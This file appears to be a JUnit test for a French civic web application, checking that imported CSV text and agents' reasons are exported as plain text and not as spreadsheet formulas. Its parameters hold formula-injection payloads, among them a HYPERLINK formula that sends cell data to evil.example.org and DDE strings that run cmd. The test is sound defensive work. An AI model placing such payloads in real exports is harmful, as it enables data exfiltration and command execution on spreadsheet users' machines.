package fr.democratiepermanente.attack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import fr.democratiepermanente.ApplicationTest;
import fr.democratiepermanente.attack.Attacker.Answer;
import fr.democratiepermanente.browser.Cases;
import java.io.IOException;
import java.io.StringReader;
import java.time.Clock;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * Text that a spreadsheet would run: it comes in by an imported file and by an agent's words, and leaves by every file
 * the application exports (CSV, or formats no spreadsheet opens).
 */
@ApplicationTest
class FormulaAttackTest {

    @Autowired
    private JdbcClient jdbc;

    @Autowired
    private Cases cases;

    @Autowired
    private Clock clock;

    @LocalServerPort
    private int port;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"https://evil.example.org?\"&A1)",
                "+33 2 38 00 00 00",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\u00a0=1+1",
                "＝1+1",
                "fin\";=1+1;\"",
                "deux lignes\n=1+1"
            })
    void aCellIsTextWhereverItLeaves(String cell) throws IOException {
        Attacker agent = new Attacker(port).signedIn("claire.moreau");
        String reference = imported(agent, cell);
        qualify(reference, cell);
        String today =
                LocalDate.ofInstant(clock.instant(), ZoneId.of("Europe/Paris")).toString();

        List<Answer> files = List.of(
                agent.get("/dossiers/" + reference + "/journal.csv"),
                new Attacker(port).signedIn("admin").get("/administration/journal.csv?du=" + today + "&au=" + today),
                agent.get("/imports/modele.csv"));

        for (Answer file : files) {
            assertThat(file.status()).isEqualTo(200);
            assertThat(cells(file)).isNotEmpty().allSatisfy(FormulaAttackTest::isText);
        }
        assertThat(cells(files.get(0))).as("the words are still there").anyMatch(text -> text.endsWith(cell.strip()));
        assertThat(cells(files.get(1))).anyMatch(text -> text.endsWith(cell.strip()));
    }

    private static void isText(String cell) {
        assertThat(cell.replaceFirst("^[\\s\\p{Z}]+", "")).doesNotMatch("(?s)[=+@＝＋－＠-].*");
        assertThat(cell).doesNotMatch("(?s)[\\t\\r\\n].*");
    }

    /** Brings the text in by a file, and returns the reference of the case it became. */
    private String imported(Attacker agent, String cell) {
        String title = "Formule " + Integer.toHexString(cell.hashCode());
        String file = "titre;texte;theme;bassin_de_vie;nom;structure;courriel;telephone;canal;deposee_le\r\n" + title
                + ";\"" + cell.replace("\"", "\"\"") + "\";;;=1+1;;;;;\r\n";
        String body = "--limite\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\n"
                + Attacker.hidden(agent.get("/imports").body(), "_csrf")
                + "\r\n--limite\r\nContent-Disposition: form-data; name=\"file\"; filename=\"=1+1.csv\"\r\n\r\n" + file
                + "\r\n--limite--\r\n";
        String page = agent.post("/imports", "multipart/form-data; boundary=limite", body)
                .header("location")
                .orElseThrow();
        String id = page.substring(page.lastIndexOf('/') + 1);
        Answer confirmed = agent.postForm(
                "/imports/" + id + "/confirmer",
                Map.of("_csrf", Attacker.hidden(agent.get("/imports/" + id).body(), "_csrf")));
        assertThat(confirmed.status()).isEqualTo(303);
        return await().until(
                        () -> jdbc.sql("select reference from proposal where title = ? and body = ?")
                                .params(title, cell.strip())
                                .query(String.class)
                                .optional(),
                        Optional::isPresent)
                .orElseThrow();
    }

    /** Writes the text as an agent's reason, which the journal keeps. */
    private void qualify(String reference, String reason) {
        cases.runJobs(reference);
        new Desk(port, cases)
                .submit(
                        "claire.moreau",
                        reference,
                        Map.of(
                                "destination", "IMMEDIATE_MEASURE",
                                "level", "REGION",
                                "theme", "MOBILITES",
                                "service", "service-mobilites",
                                "reason", reason));
    }

    private static List<String> cells(Answer file) throws IOException {
        return CSVFormat.EXCEL
                .builder()
                .setDelimiter(';')
                .get()
                .parse(new StringReader(file.body().substring(1)))
                .stream()
                .flatMap(CSVRecord::stream)
                .toList();
    }
}
